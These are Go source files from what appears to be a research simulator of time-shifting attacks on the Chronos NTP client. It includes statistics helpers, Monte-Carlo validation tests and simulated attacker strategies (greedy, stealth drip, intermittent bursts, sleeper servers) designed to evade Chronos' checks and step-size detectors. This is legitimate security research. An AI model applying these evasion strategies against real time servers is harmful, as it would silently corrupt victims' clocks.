// BinomTail returns P[X >= k] for X ~ Binomial(n, p).
func BinomTail(n int, p float64, k int) float64 {
	if k <= 0 {
		return 1
	}
	if k > n {
		return 0
	}
	sum := 0.0
	for i := k; i <= n; i++ {
		sum += BinomPMF(n, p, i)
	}
	if sum > 1 {
		sum = 1
	}
	return sum
}

// HypergeomPMF returns P[X = k] where X counts successes in a sample of size
// m drawn without replacement from a population of size n that contains
// good successes.
func HypergeomPMF(n, good, m, k int) float64 {
	if n < 0 || good < 0 || good > n || m < 0 || m > n {
		return 0
	}
	if k < 0 || k > good || m-k > n-good || k > m {
		return 0
	}
	lp := LogChoose(good, k) + LogChoose(n-good, m-k) - LogChoose(n, m)
	return math.Exp(lp)
}

// HypergeomTail returns P[X >= k] for the hypergeometric distribution with
// population n, good successes, and sample size m.
func HypergeomTail(n, good, m, k int) float64 {
	if k <= 0 {
		return 1
	}
	hi := m
	if good < hi {
		hi = good
	}
	if k > hi {
		return 0
	}
	sum := 0.0
	for i := k; i <= hi; i++ {
		sum += HypergeomPMF(n, good, m, i)
	}
	if sum > 1 {
		sum = 1
	}
	return sum
}

// Mean returns the arithmetic mean of xs.
func Mean(xs []float64) (float64, error) {
	if len(xs) == 0 {
		return 0, ErrEmptyInput
	}
	sum := 0.0
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs)), nil
}

// Median returns the median of xs (average of the two middle elements for
// even lengths). The input is not modified.
func Median(xs []float64) (float64, error) {
	if len(xs) == 0 {
		return 0, ErrEmptyInput
	}
	s := append([]float64(nil), xs...)
	sort.Float64s(s)
	n := len(s)
	if n%2 == 1 {
		return s[n/2], nil
	}
	return (s[n/2-1] + s[n/2]) / 2, nil
}

// TrimmedMean sorts a copy of xs, removes the trim lowest and trim highest
// samples, and returns the mean of the survivors. This is exactly the
// aggregation step of the Chronos clock-update algorithm (trim = d = m/3).
func TrimmedMean(xs []float64, trim int) (float64, error) {
	if trim < 0 {
		return 0, errors.New("stats: negative trim")
	}
	if len(xs) <= 2*trim {
		return 0, errors.New("stats: trim removes all samples")
	}
	s := append([]float64(nil), xs...)
	sort.Float64s(s)
	return Mean(s[trim : len(s)-trim])
}

// TrimmedRange reports the spread (max-min) of the surviving samples after
// trimming, used by Chronos condition checks.
func TrimmedRange(xs []float64, trim int) (float64, error) {
	if trim < 0 {
		return 0, errors.New("stats: negative trim")
	}
	if len(xs) <= 2*trim {
		return 0, errors.New("stats: trim removes all samples")
	}
	s := append([]float64(nil), xs...)
	sort.Float64s(s)
	surv := s[trim : len(s)-trim]
	return surv[len(surv)-1] - surv[0], nil
}

// Quantile returns the q-quantile (0 <= q <= 1) of xs using linear
// interpolation between closest ranks. The input is not modified.
func Quantile(xs []float64, q float64) (float64, error) {
	if len(xs) == 0 {
		return 0, ErrEmptyInput
	}
	if q < 0 || q > 1 {
		return 0, errors.New("stats: quantile out of range")
	}
	s := append([]float64(nil), xs...)
	sort.Float64s(s)
	if len(s) == 1 {
		return s[0], nil
	}
	pos := q * float64(len(s)-1)
	lo := int(math.Floor(pos))
	hi := int(math.Ceil(pos))
	if lo == hi {
		return s[lo], nil
	}
	frac := pos - float64(lo)
	return s[lo]*(1-frac) + s[hi]*frac, nil
}

// StdDev returns the sample standard deviation (n-1 denominator).
func StdDev(xs []float64) (float64, error) {
	if len(xs) < 2 {
		return 0, errors.New("stats: need at least two samples")
	}
	m, _ := Mean(xs)
	sum := 0.0
	for _, x := range xs {
		d := x - m
		sum += d * d
	}
	return math.Sqrt(sum / float64(len(xs)-1)), nil
}
