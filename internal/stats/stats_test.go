package stats

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

func almostEqual(a, b, eps float64) bool {
	return math.Abs(a-b) <= eps
}

func TestLogChoose(t *testing.T) {
	tests := []struct {
		n, k int
		want float64
	}{
		{5, 0, 1},
		{5, 5, 1},
		{5, 2, 10},
		{10, 3, 120},
		{15, 10, 3003},
		{52, 5, 2598960},
	}
	for _, tt := range tests {
		got := math.Exp(LogChoose(tt.n, tt.k))
		if !almostEqual(got, tt.want, tt.want*1e-9) {
			t.Errorf("C(%d,%d) = %v, want %v", tt.n, tt.k, got, tt.want)
		}
	}
}

func TestLogChooseOutOfRange(t *testing.T) {
	if !math.IsInf(LogChoose(5, -1), -1) {
		t.Error("C(5,-1) should be -Inf in log space")
	}
	if !math.IsInf(LogChoose(5, 6), -1) {
		t.Error("C(5,6) should be -Inf in log space")
	}
}

func TestBinomPMFSumsToOne(t *testing.T) {
	for _, n := range []int{1, 5, 15, 40} {
		for _, p := range []float64{0.0, 0.1, 1.0 / 3.0, 0.5, 0.9, 1.0} {
			sum := 0.0
			for k := 0; k <= n; k++ {
				sum += BinomPMF(n, p, k)
			}
			if !almostEqual(sum, 1, 1e-9) {
				t.Errorf("binom pmf n=%d p=%v sums to %v", n, p, sum)
			}
		}
	}
}

func TestBinomTailKnownValue(t *testing.T) {
	// P[X >= 10] for X ~ Binom(15, 1/3): the Chronos sample-capture
	// probability for an attacker holding one third of the pool.
	got := BinomTail(15, 1.0/3.0, 10)
	// Independent computation: sum_{k=10}^{15} C(15,k)(1/3)^k(2/3)^(15-k).
	want := 0.0
	for k := 10; k <= 15; k++ {
		want += math.Exp(LogChoose(15, k)) * math.Pow(1.0/3.0, float64(k)) * math.Pow(2.0/3.0, float64(15-k))
	}
	if !almostEqual(got, want, 1e-12) {
		t.Errorf("BinomTail = %v, want %v", got, want)
	}
	if got <= 0 || got >= 0.05 {
		t.Errorf("BinomTail(15,1/3,10) = %v, expected a small positive probability", got)
	}
}

func TestBinomTailEdges(t *testing.T) {
	if got := BinomTail(10, 0.3, 0); got != 1 {
		t.Errorf("P[X>=0] = %v, want 1", got)
	}
	if got := BinomTail(10, 0.3, 11); got != 0 {
		t.Errorf("P[X>=11] = %v, want 0", got)
	}
}

func TestHypergeomPMFSumsToOne(t *testing.T) {
	cases := []struct{ n, good, m int }{
		{10, 4, 3}, {133, 89, 15}, {96, 32, 15}, {50, 0, 10}, {50, 50, 10},
	}
	for _, c := range cases {
		sum := 0.0
		for k := 0; k <= c.m; k++ {
			sum += HypergeomPMF(c.n, c.good, c.m, k)
		}
		if !almostEqual(sum, 1, 1e-9) {
			t.Errorf("hypergeom pmf n=%d good=%d m=%d sums to %v", c.n, c.good, c.m, sum)
		}
	}
}

func TestHypergeomVsBinomLargePopulation(t *testing.T) {
	// With a large population the hypergeometric approaches the binomial.
	n, m := 100000, 15
	good := n / 3
	for k := 0; k <= m; k++ {
		h := HypergeomPMF(n, good, m, k)
		b := BinomPMF(m, float64(good)/float64(n), k)
		if !almostEqual(h, b, 1e-4) {
			t.Errorf("k=%d: hypergeom %v vs binom %v", k, h, b)
		}
	}
}

func TestHypergeomTailPaperPool(t *testing.T) {
	// Figure-1 poisoned pool: 44 benign + 89 malicious = 133 servers.
	// The attacker holds >= 2/3, so capturing >= 10 of 15 samples must be
	// likely (better than a coin flip).
	p := HypergeomTail(133, 89, 15, 10)
	if p < 0.5 {
		t.Errorf("poisoned-pool capture probability = %v, want >= 0.5", p)
	}
	// Honest pool of 96 with zero malicious servers: capture impossible.
	if got := HypergeomTail(96, 0, 15, 1); got != 0 {
		t.Errorf("capture probability with honest pool = %v, want 0", got)
	}
}

func TestMeanMedian(t *testing.T) {
	if _, err := Mean(nil); err == nil {
		t.Error("Mean(nil) should error")
	}
	m, err := Mean([]float64{1, 2, 3, 4})
	if err != nil || m != 2.5 {
		t.Errorf("Mean = %v, %v", m, err)
	}
	md, err := Median([]float64{5, 1, 3})
	if err != nil || md != 3 {
		t.Errorf("Median odd = %v, %v", md, err)
	}
	md, err = Median([]float64{4, 1, 3, 2})
	if err != nil || md != 2.5 {
		t.Errorf("Median even = %v, %v", md, err)
	}
}

func TestTrimmedMean(t *testing.T) {
	xs := []float64{100, 1, 2, 3, -100}
	got, err := TrimmedMean(xs, 1)
	if err != nil {
		t.Fatal(err)
	}
	if got != 2 {
		t.Errorf("TrimmedMean = %v, want 2", got)
	}
	// Trimming everything is an error.
	if _, err := TrimmedMean([]float64{1, 2}, 1); err == nil {
		t.Error("expected error when trim removes all samples")
	}
	if _, err := TrimmedMean(xs, -1); err == nil {
		t.Error("expected error for negative trim")
	}
}

func TestTrimmedMeanDoesNotModifyInput(t *testing.T) {
	xs := []float64{3, 1, 2}
	if _, err := TrimmedMean(xs, 0); err != nil {
		t.Fatal(err)
	}
	if xs[0] != 3 || xs[1] != 1 || xs[2] != 2 {
		t.Errorf("input modified: %v", xs)
	}
}

func TestTrimmedRange(t *testing.T) {
	xs := []float64{-50, 1, 2, 3, 4, 50}
	got, err := TrimmedRange(xs, 1)
	if err != nil {
		t.Fatal(err)
	}
	if got != 3 {
		t.Errorf("TrimmedRange = %v, want 3", got)
	}
}

func TestQuantile(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5}
	for _, tt := range []struct{ q, want float64 }{
		{0, 1}, {1, 5}, {0.5, 3}, {0.25, 2},
	} {
		got, err := Quantile(xs, tt.q)
		if err != nil {
			t.Fatal(err)
		}
		if !almostEqual(got, tt.want, 1e-12) {
			t.Errorf("Quantile(%v) = %v, want %v", tt.q, got, tt.want)
		}
	}
	if _, err := Quantile(xs, 1.5); err == nil {
		t.Error("expected error for q > 1")
	}
	if _, err := Quantile(nil, 0.5); err == nil {
		t.Error("expected error for empty input")
	}
}

func TestStdDev(t *testing.T) {
	got, err := StdDev([]float64{2, 4, 4, 4, 5, 5, 7, 9})
	if err != nil {
		t.Fatal(err)
	}
	want := math.Sqrt(32.0 / 7.0)
	if !almostEqual(got, want, 1e-12) {
		t.Errorf("StdDev = %v, want %v", got, want)
	}
	if _, err := StdDev([]float64{1}); err == nil {
		t.Error("expected error for single sample")
	}
}

func TestExpectedTrialsToRun(t *testing.T) {
	// c = 1 reduces to the geometric mean 1/p.
	got, err := ExpectedTrialsToRun(0.25, 1)
	if err != nil {
		t.Fatal(err)
	}
	if !almostEqual(got, 4, 1e-9) {
		t.Errorf("E[T] c=1 p=0.25 = %v, want 4", got)
	}
	// p = 1 needs exactly c trials.
	got, err = ExpectedTrialsToRun(1, 7)
	if err != nil {
		t.Fatal(err)
	}
	if got != 7 {
		t.Errorf("E[T] p=1 c=7 = %v, want 7", got)
	}
	// p = 0 never succeeds.
	got, err = ExpectedTrialsToRun(0, 3)
	if err != nil {
		t.Fatal(err)
	}
	if !math.IsInf(got, 1) {
		t.Errorf("E[T] p=0 = %v, want +Inf", got)
	}
	if _, err := ExpectedTrialsToRun(0.5, 0); err == nil {
		t.Error("expected error for c = 0")
	}
}

func TestExpectedTrialsToRunMonteCarlo(t *testing.T) {
	// Cross-check the closed form by simulation.
	rng := rand.New(rand.NewSource(42))
	const (
		p      = 0.6
		c      = 3
		trials = 20000
	)
	total := 0.0
	for i := 0; i < trials; i++ {
		run, n := 0, 0
		for run < c {
			n++
			if rng.Float64() < p {
				run++
			} else {
				run = 0
			}
		}
		total += float64(n)
	}
	mc := total / trials
	want, err := ExpectedTrialsToRun(p, c)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(mc-want)/want > 0.05 {
		t.Errorf("monte carlo %v vs closed form %v", mc, want)
	}
}

func TestGeometricMeanTrials(t *testing.T) {
	if got := GeometricMeanTrials(0.5); got != 2 {
		t.Errorf("1/p = %v, want 2", got)
	}
	if !math.IsInf(GeometricMeanTrials(0), 1) {
		t.Error("p=0 should be +Inf")
	}
	if got := GeometricMeanTrials(2); got != 1 {
		t.Errorf("p clamped to 1: got %v", got)
	}
}

// Property: the trimmed mean always lies within [min, max] of the surviving
// (trimmed) window, and hence within the untrimmed bounds too.
func TestTrimmedMeanBoundsProperty(t *testing.T) {
	f := func(raw []float64) bool {
		xs := make([]float64, 0, len(raw))
		for _, x := range raw {
			if !math.IsNaN(x) && !math.IsInf(x, 0) {
				// Keep magnitudes sane to avoid float overflow in sums.
				xs = append(xs, math.Mod(x, 1e9))
			}
		}
		if len(xs) < 3 {
			return true
		}
		trim := len(xs) / 3
		got, err := TrimmedMean(xs, trim)
		if err != nil {
			return false
		}
		lo, hi := math.Inf(1), math.Inf(-1)
		for _, x := range xs {
			lo = math.Min(lo, x)
			hi = math.Max(hi, x)
		}
		return got >= lo-1e-6 && got <= hi+1e-6
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// Property: hypergeometric tail is monotone non-increasing in k and
// monotone non-decreasing in the number of "good" elements.
func TestHypergeomTailMonotonicityProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := 10 + rng.Intn(200)
		good := rng.Intn(n + 1)
		m := 1 + rng.Intn(n)
		prev := 1.0
		for k := 0; k <= m; k++ {
			cur := HypergeomTail(n, good, m, k)
			if cur > prev+1e-12 {
				return false
			}
			prev = cur
		}
		if good < n {
			// More good elements can only increase the tail.
			k := m/2 + 1
			if HypergeomTail(n, good+1, m, k)+1e-12 < HypergeomTail(n, good, m, k) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
