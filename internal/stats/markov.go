package stats

import (
	"errors"
	"math"
)

// ExpectedTrialsToRun returns the expected number of Bernoulli trials (success
// probability p per trial) until the first run of c consecutive successes.
//
// Closed form for the classical "runs" Markov chain:
//
//	E[T] = (1 - p^c) / ((1 - p) * p^c)
//
// This models an attacker that must win c consecutive Chronos rounds (each
// win bounded by the per-round shift cap) to accumulate a target time shift;
// any lost round triggers Chronos' panic/recovery and resets progress.
func ExpectedTrialsToRun(p float64, c int) (float64, error) {
	if c <= 0 {
		return 0, errors.New("stats: run length must be positive")
	}
	if p <= 0 {
		return math.Inf(1), nil
	}
	if p >= 1 {
		return float64(c), nil
	}
	pc := math.Pow(p, float64(c))
	if pc == 0 {
		return math.Inf(1), nil
	}
	return (1 - pc) / ((1 - p) * pc), nil
}

// GeometricMeanTrials returns the expected number of Bernoulli trials until
// the first success (1/p), or +Inf for p <= 0.
func GeometricMeanTrials(p float64) float64 {
	if p <= 0 {
		return math.Inf(1)
	}
	if p > 1 {
		p = 1
	}
	return 1 / p
}
