package stats

import (
	"fmt"
	"math"
	"sort"
	"sync"
)

// Summary is the descriptive aggregate of a metric across Monte-Carlo
// trials: mean, sample standard deviation, the half-width of the normal
// 95% confidence interval of the mean, and the observed extremes.
type Summary struct {
	N      int     `json:"n"`
	Mean   float64 `json:"mean"`
	StdDev float64 `json:"stddev"` // sample standard deviation (n−1); 0 for a single trial
	CI95   float64 `json:"ci95"`   // 1.96·σ/√n half-width; 0 for a single trial
	Min    float64 `json:"min"`
	Max    float64 `json:"max"`
}

// z95 is the two-sided 95% quantile of the standard normal distribution.
const z95 = 1.959963984540054

// Describe computes the Summary of xs in the given order. The summation
// order is exactly the slice order, so identical slices produce
// bit-identical summaries.
func Describe(xs []float64) (Summary, error) {
	if len(xs) == 0 {
		return Summary{}, ErrEmptyInput
	}
	s := Summary{N: len(xs), Min: xs[0], Max: xs[0]}
	sum := 0.0
	for _, x := range xs {
		sum += x
		if x < s.Min {
			s.Min = x
		}
		if x > s.Max {
			s.Max = x
		}
	}
	s.Mean = sum / float64(len(xs))
	if len(xs) >= 2 {
		sq := 0.0
		for _, x := range xs {
			d := x - s.Mean
			sq += d * d
		}
		s.StdDev = math.Sqrt(sq / float64(len(xs)-1))
		s.CI95 = z95 * s.StdDev / math.Sqrt(float64(len(xs)))
	}
	return s, nil
}

// String renders "mean ± ci95" at 3 decimals (just the mean for a single
// trial).
func (s Summary) String() string {
	if s.N <= 1 {
		return fmt.Sprintf("%.3f", s.Mean)
	}
	return fmt.Sprintf("%.3f ± %.3f", s.Mean, s.CI95)
}

// sample is one (trial index, value) observation of a metric.
type sample struct {
	idx int
	v   float64
}

// Aggregator accumulates per-trial metric observations from concurrent
// producers and reduces them order-independently: observations may arrive
// in any order, but every reduction first sorts by trial index, so the
// aggregate is bit-identical regardless of the parallelism (and hence
// completion order) of the producers.
type Aggregator struct {
	mu     sync.Mutex
	series map[string][]sample
}

// NewAggregator returns an empty Aggregator.
func NewAggregator() *Aggregator {
	return &Aggregator{series: make(map[string][]sample)}
}

// Observe records one value of metric for the given trial index. Safe for
// concurrent use.
func (a *Aggregator) Observe(metric string, trialIndex int, v float64) {
	a.mu.Lock()
	a.series[metric] = append(a.series[metric], sample{idx: trialIndex, v: v})
	a.mu.Unlock()
}

// Values returns the observations of metric sorted by trial index
// (observation order for equal indices). A nil slice means the metric was
// never observed.
func (a *Aggregator) Values(metric string) []float64 {
	a.mu.Lock()
	ss := append([]sample(nil), a.series[metric]...)
	a.mu.Unlock()
	sort.SliceStable(ss, func(i, j int) bool { return ss[i].idx < ss[j].idx })
	if len(ss) == 0 {
		return nil
	}
	out := make([]float64, len(ss))
	for i, s := range ss {
		out[i] = s.v
	}
	return out
}

// Describe reduces metric to its Summary over the trial-index-sorted
// observations.
func (a *Aggregator) Describe(metric string) (Summary, error) {
	return Describe(a.Values(metric))
}

// Merge folds other's observations into a. Because every reduction sorts
// by trial index first, merging is order-independent and associative as
// long as trial indices are unique per metric (the runner's invariant):
// merge(A,B) ≡ merge(B,A) ≡ observing everything into one aggregator.
// It lets sharded producers keep private aggregators and combine them at
// the end. Safe for concurrent use; other is only read.
func (a *Aggregator) Merge(other *Aggregator) {
	if other == nil || other == a {
		return
	}
	other.mu.Lock()
	copied := make(map[string][]sample, len(other.series))
	for m, ss := range other.series {
		copied[m] = append([]sample(nil), ss...)
	}
	other.mu.Unlock()
	a.mu.Lock()
	for m, ss := range copied {
		a.series[m] = append(a.series[m], ss...)
	}
	a.mu.Unlock()
}

// Metrics lists the observed metric names, sorted.
func (a *Aggregator) Metrics() []string {
	a.mu.Lock()
	out := make([]string, 0, len(a.series))
	for m := range a.series {
		out = append(out, m)
	}
	a.mu.Unlock()
	sort.Strings(out)
	return out
}
