package shiftsim

import (
	"math/rand"
	"testing"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/chronos"
	"chronosntp/internal/stats"
)

// TestCrossValidationAgainstClosedForm is the three-way consistency check
// behind the paper's security-bound reproduction, across a (pool size ×
// malicious fraction × run length) grid:
//
//   - stats.ExpectedTrialsToRun — the closed form the paper cites;
//   - analysis.SimulateRoundsToShift — the bare hypergeometric Monte
//     Carlo;
//   - the shiftsim engine — the same statistic measured through the
//     actual Chronos round loop (real without-replacement sampling, real
//     C1/C2 evaluation, real panic recovery between runs).
//
// For every feasible grid point the closed form must lie inside the
// engine's 95% confidence interval, and the bare Monte-Carlo estimate
// must agree with the closed form within that same interval width.
func TestCrossValidationAgainstClosedForm(t *testing.T) {
	if testing.Short() {
		t.Skip("Monte-Carlo grid")
	}
	const trials = 800
	grid := []struct {
		pool, mal, m, c int
	}{
		// Paper's poisoned pool (≈ 2/3 malicious) at several run lengths.
		{133, 89, 15, 1},
		{133, 89, 15, 2},
		{133, 89, 15, 4},
		// Half-malicious mid-size pool.
		{100, 67, 15, 3},
		// Small pools with the proportionally smaller sample Chronos uses.
		{60, 40, 9, 2},
		{60, 45, 9, 3},
		{40, 30, 9, 2},
	}
	for gi, g := range grid {
		trim := g.m / 3
		p := stats.HypergeomTail(g.pool, g.mal, g.m, g.m-trim)
		closed, err := stats.ExpectedTrialsToRun(p, g.c)
		if err != nil {
			t.Fatal(err)
		}
		if closed > 3000 {
			t.Fatalf("grid point %+v infeasible for simulation (E[T]=%.0f); choose another", g, closed)
		}

		// Each grid point gets its own seed block so points draw
		// independent RNG streams.
		rs, err := Sample(Config{
			PoolSize: g.pool, Malicious: g.mal,
			Client:    chronos.Config{SampleSize: g.m},
			RunLength: g.c,
			Horizon:   20 * 365 * 24 * time.Hour,
		}, int64(1001*(gi+1)), trials)
		if err != nil {
			t.Fatal(err)
		}
		xs := make([]float64, 0, trials)
		for _, r := range rs {
			if r.RoundsToRun == 0 {
				t.Fatalf("%+v: a trial never completed its capture run", g)
			}
			xs = append(xs, float64(r.RoundsToRun))
		}
		engine, err := stats.Describe(xs)
		if err != nil {
			t.Fatal(err)
		}
		lo, hi := engine.Mean-engine.CI95, engine.Mean+engine.CI95
		if closed < lo || closed > hi {
			t.Errorf("%+v: closed form %.2f outside engine 95%% CI [%.2f, %.2f] (p=%.4f)",
				g, closed, lo, hi, p)
		}

		mc := analysis.SimulateRoundsToShift(rand.New(rand.NewSource(7)), g.pool, g.mal, g.m, trim, g.c, trials)
		if diff := mc - closed; diff < -engine.CI95 || diff > engine.CI95 {
			t.Errorf("%+v: hypergeometric Monte-Carlo %.2f vs closed form %.2f differ beyond ±%.2f",
				g, mc, closed, engine.CI95)
		}
	}
}

// TestTimeToShiftMatchesClosedForm validates the headline metric itself:
// against the paper's poisoned pool, the greedy attacker's empirical
// rounds-to-100ms must agree with analysis.TimeToShift at the strategy's
// actual per-round step, within the Monte-Carlo 95% CI.
func TestTimeToShiftMatchesClosedForm(t *testing.T) {
	if testing.Short() {
		t.Skip("Monte-Carlo")
	}
	const trials = 800
	cfg := Config{Horizon: 365 * 24 * time.Hour}
	resolved := cfg.withDefaults()
	step := MaxStep(resolved.Client)
	p := analysis.RoundWinProb(resolved.PoolSize, resolved.Malicious,
		resolved.Client.SampleSize, resolved.Client.Trim)
	closed, err := analysis.TimeToShift(resolved.Target, step, p, resolved.Client.SyncInterval)
	if err != nil {
		t.Fatal(err)
	}

	rs, err := Sample(cfg, 1, trials)
	if err != nil {
		t.Fatal(err)
	}
	xs := make([]float64, 0, trials)
	for _, r := range rs {
		if !r.Shifted {
			t.Fatal("a poisoned-pool trial never shifted within a year")
		}
		xs = append(xs, float64(r.RoundsToShift))
	}
	s, err := stats.Describe(xs)
	if err != nil {
		t.Fatal(err)
	}
	lo, hi := s.Mean-s.CI95, s.Mean+s.CI95
	if closed.ExpectedRounds < lo || closed.ExpectedRounds > hi {
		t.Errorf("closed-form %.2f rounds outside empirical 95%% CI [%.2f, %.2f]",
			closed.ExpectedRounds, lo, hi)
	}
}
