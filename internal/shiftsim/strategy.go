package shiftsim

import (
	"fmt"
	"sort"
	"time"

	"chronosntp/internal/chronos"
)

// View is what the attacker observes before deciding what its servers
// serve for one sampling attempt. It models a MitM-grade adversary — the
// threat model of the Chronos NDSS'18 proof: the attacker reads the
// client's clock error off the request's TransmitTime, and (on-path) sees
// which servers the client sampled, so it knows whether it holds enough
// of this attempt's sample to own every trimmed-mean survivor.
type View struct {
	// Wire is true when the strategy runs inside a packet-level ntpserver
	// (full-fidelity mode): per-sample composition fields are then
	// unknown (zero) and Observed includes the one-way latency error.
	Wire bool

	Round   int  // 1-based sync round (approximated from virtual time in wire mode)
	Attempt int  // 0 = fresh round, >0 = re-sample (compressed mode only)
	Panic   bool // this query is the panic-mode full-pool sweep (compressed mode only)

	// Observed is the client's clock error (local − true) as read off its
	// request.
	Observed time.Duration

	SampledMalicious int // attacker servers in this attempt's sample (compressed mode only)
	SampleSize       int // m for this attempt (pool size during panic)
	CaptureNeed      int // m − d: attacker samples needed to own every survivor

	PoolSize      int
	PoolMalicious int

	Config chronos.Config // the client's effective parameters (defaults applied)
}

// Captured reports whether the attacker owns every survivor of this
// attempt's trimmed mean.
func (v View) Captured() bool {
	if v.Panic {
		// Panic trims ⌊n/3⌋ from each end; every survivor is malicious
		// iff at most ⌊n/3⌋ benign replies exist to be trimmed away.
		return v.PoolSize-v.PoolMalicious <= chronos.PanicTrim(v.PoolSize)
	}
	return v.SampledMalicious >= v.CaptureNeed
}

// Strategy decides the offset sample the attacker's servers present to
// the client for one attempt: the returned value is the clock offset the
// client will *compute* from those servers (server time − client time).
// Returning −View.Observed is exactly honest service (the server tells
// true time). Strategies must be stateless value types: one value is
// shared across every attacker server and across parallel trials.
type Strategy interface {
	Name() string
	Plan(v View) time.Duration
}

// WireGuard is the safety margin adaptive strategies keep under the C2
// bound in wire mode, absorbing the one-way-latency error in their clock
// observation (default path latency is 2–5 ms).
const WireGuard = 5 * time.Millisecond

// MaxStep returns the largest per-round step the default strategies
// attempt: ErrBound − WireGuard (25 ms at the NDSS'18 defaults — the same
// per-round step the paper's closed-form bound assumes).
func MaxStep(cfg chronos.Config) time.Duration {
	if step := cfg.ErrBound - WireGuard; step > 0 {
		return step
	}
	return cfg.ErrBound
}

// Greedy takes the maximum per-round step that still passes C1/C2, and
// only when it owns every survivor of a fresh attempt; on any miss it
// serves honestly until the client has re-anchored (an accepted honest
// round, or a panic sweep it answers truthfully). This reset discipline
// makes each sync round an independent Bernoulli trial with the
// hypergeometric capture probability — exactly the Markov chain behind
// stats.ExpectedTrialsToRun, which is what lets the engine cross-validate
// the closed-form "decades to shift" bound empirically.
type Greedy struct {
	// Step is the per-capture step; 0 means MaxStep (ErrBound − 5 ms).
	Step time.Duration
	// ExploitPanic also pushes during panic sweeps the attacker owns
	// (pool supermajority). Off by default: the closed-form chain resets
	// on every miss, so the default Greedy does too.
	ExploitPanic bool
}

// Name implements Strategy.
func (Greedy) Name() string { return "greedy" }

// Plan implements Strategy.
func (g Greedy) Plan(v View) time.Duration {
	step := g.Step
	if step == 0 {
		step = MaxStep(v.Config)
	}
	return greedyPlan(v, step, g.ExploitPanic)
}

// greedyPlan is the capture-or-reset core shared with Intermittent's
// burst phase.
func greedyPlan(v View, step time.Duration, exploitPanic bool) time.Duration {
	if v.Wire {
		return step // always push; misses surface as C1 failures on the wire
	}
	if v.Panic {
		if exploitPanic && v.Captured() {
			return step
		}
		return -v.Observed // honest: let the sweep re-anchor the client
	}
	if v.Attempt == 0 && v.Captured() {
		return step
	}
	return -v.Observed
}

// Stealth drips a constant sub-ErrBound offset into every reply,
// including panic sweeps (which a pool supermajority quietly owns: the
// honest replies are exactly the third that panic mode trims away). No
// accepted update ever exceeds Drip — to a step-size anomaly detector the
// attack is indistinguishable from honest clock noise, where Greedy's
// 25 ms jumps stand out. The cost: against an honest majority the trimmed
// mean's benign survivors pull the average back and the drip stalls at a
// sub-ErrBound equilibrium (the engine shows the bound holding), and even
// against a supermajority the accumulated shift makes mixed samples fail
// C1 occasionally, so progress is slower than Greedy's.
type Stealth struct {
	// Drip is the per-reply offset; 0 means 5 ms.
	Drip time.Duration
}

// Name implements Strategy.
func (Stealth) Name() string { return "stealth" }

// Plan implements Strategy.
func (s Stealth) Plan(v View) time.Duration {
	drip := s.Drip
	if drip == 0 {
		drip = 5 * time.Millisecond
	}
	return drip
}

// Intermittent alternates pushing bursts with unwind phases, built to
// dodge the K-failure panic escalation. Greedy marches into panics: after
// a broken capture run leaves the clock more than ErrBound out, its
// honest replies are *guaranteed* C2 failures, so the K re-samples always
// exhaust. Intermittent instead serves a C2-passing step on every attempt
// it captures — +Step during bursts, a clamped walk-home during sleeps —
// so each re-sample is another chance (hypergeometric-p likely) to land a
// valid update, and panic needs K+1 consecutive sample misses instead of
// being certain. The sleep phase walks the accumulated shift back before
// it hardens into a detectable standing offset.
type Intermittent struct {
	Burst int           // pushing rounds per cycle; 0 means 4
	Sleep int           // unwind rounds per cycle; 0 means 12
	Step  time.Duration // per-round step; 0 means MaxStep
}

// Name implements Strategy.
func (Intermittent) Name() string { return "intermittent" }

// Plan implements Strategy.
func (i Intermittent) Plan(v View) time.Duration {
	burst, sleep := i.Burst, i.Sleep
	if burst == 0 {
		burst = 4
	}
	if sleep == 0 {
		sleep = 12
	}
	step := i.Step
	if step == 0 {
		step = MaxStep(v.Config)
	}
	if v.Wire {
		if pos := (v.Round - 1) % (burst + sleep); pos < burst {
			return step
		}
		return -clampMag(v.Observed, step)
	}
	if pos := (v.Round - 1) % (burst + sleep); pos < burst && v.Captured() {
		return step
	}
	// Unwind (and any attempt the attacker does not fully own): serve the
	// client's own error back, clamped to a C2-passing step.
	return -clampMag(v.Observed, step)
}

// HonestUntilThreshold is the sleeper: it serves true time — statistically
// indistinguishable from a benign server — until the trigger round, then
// turns into the inner strategy. It models an attacker that plants pool
// servers long before using them (the paper's poisoned pool persists for
// the entire TTL-pinned generation horizon).
type HonestUntilThreshold struct {
	// After is the last all-honest round; 0 means 60.
	After int
	// Inner is the post-trigger behaviour; nil means Greedy{}.
	Inner Strategy
}

// Name implements Strategy.
func (HonestUntilThreshold) Name() string { return "honest-until-threshold" }

// Plan implements Strategy.
func (h HonestUntilThreshold) Plan(v View) time.Duration {
	after := h.After
	if after == 0 {
		after = 60
	}
	if v.Round <= after {
		return -v.Observed
	}
	inner := h.Inner
	if inner == nil {
		inner = Greedy{}
	}
	return inner.Plan(v)
}

// clampMag limits d to ±bound.
func clampMag(d, bound time.Duration) time.Duration {
	if d > bound {
		return bound
	}
	if d < -bound {
		return -bound
	}
	return d
}

// strategies is the registry behind ByName / Names.
var strategies = map[string]func() Strategy{
	"greedy":                 func() Strategy { return Greedy{} },
	"stealth":                func() Strategy { return Stealth{} },
	"intermittent":           func() Strategy { return Intermittent{} },
	"honest-until-threshold": func() Strategy { return HonestUntilThreshold{} },
}

// ByName returns the named strategy with its default parameters, or an
// error listing the valid names.
func ByName(name string) (Strategy, error) {
	mk, ok := strategies[name]
	if !ok {
		return nil, fmt.Errorf("shiftsim: unknown strategy %q (valid: %v)", name, Names())
	}
	return mk(), nil
}

// Names lists the registered strategy names, sorted.
func Names() []string {
	out := make([]string, 0, len(strategies))
	for name := range strategies {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}
