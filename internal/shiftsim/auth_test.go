package shiftsim

import (
	"errors"
	"testing"
	"time"
)

// authCfg is the shared E11-shaped configuration: the paper's poisoned
// pool under the default greedy strategy.
func authCfg(horizon time.Duration, auth *AuthModel) Config {
	return Config{
		Seed: 7, PoolSize: 133, Malicious: 89,
		Target: 100 * time.Millisecond, Horizon: horizon,
		RunLength: -1, Auth: auth,
	}
}

